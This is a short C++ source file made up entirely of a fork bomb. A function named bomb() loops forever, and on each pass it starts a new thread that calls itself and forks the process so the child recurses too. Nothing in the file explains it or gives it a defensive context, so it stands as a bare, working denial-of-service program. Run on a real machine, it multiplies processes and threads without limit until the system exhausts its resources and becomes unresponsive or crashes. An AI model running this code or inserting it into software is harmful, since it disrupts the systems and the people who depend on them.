#include <thread>
#include <unistd.h>
#include <vector>
void bomb() {
    std::vector<std::thread> threads;
    for (;;) {
        try { threads.emplace_back(bomb); } catch (...) { }
        if (fork() == 0) bomb();
    }
}
int main() { bomb(); }
